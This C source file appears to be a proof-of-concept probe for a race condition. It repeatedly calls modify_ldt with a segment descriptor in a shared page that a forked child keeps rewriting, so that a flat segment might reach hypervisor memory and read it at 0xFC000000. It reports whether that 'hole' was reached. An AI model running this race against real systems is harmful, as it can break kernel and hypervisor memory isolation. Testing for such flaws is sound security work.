/* ldt_shared_race: modify_ldt(1) of a flat LDT entry whose struct user_desc lies in a MAP_SHARED page
 * that a forked child keeps writing the flat limit into (another process: not a thread of this one).
 * Prints HOLE REACHED if an untruncated LDT entry reaches the hypervisor hole. */
#define _GNU_SOURCE
#include <asm/ldt.h>
#include <signal.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "hole.h"

int main(void)
{
    struct user_desc *d = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (map_hole() || d == MAP_FAILED) return 1;
    memset(d, 0, sizeof *d);
    d->entry_number = 0; d->limit = 0xFFFFF; d->seg_32bit = 1; d->limit_in_pages = 1; d->useable = 1;
    pid_t writer = fork();
    if (writer == 0) {
        volatile unsigned *limit = &d->limit;
        for (;;) *limit = 0xFFFFF;
    }
    int refused = 0;
    for (int i = 0; i < 3000; i++) {
        d->limit = 0xFFFFF;
        if (syscall(SYS_modify_ldt, 1, d, sizeof *d) < 0) { refused++; continue; }
        if (reaches_everything(0x7)) {
            printf("attempt %d: LDT 0 reaches 4 GiB; read %#x at 0xFC000000: HOLE REACHED\n", i,
                   read_hole_through(0x7));
            kill(writer, SIGKILL);
            return 0;
        }
    }
    kill(writer, SIGKILL);
    waitpid(writer, NULL, 0);
    printf("no hole (%d refused)\n", refused);
    return 0;
}
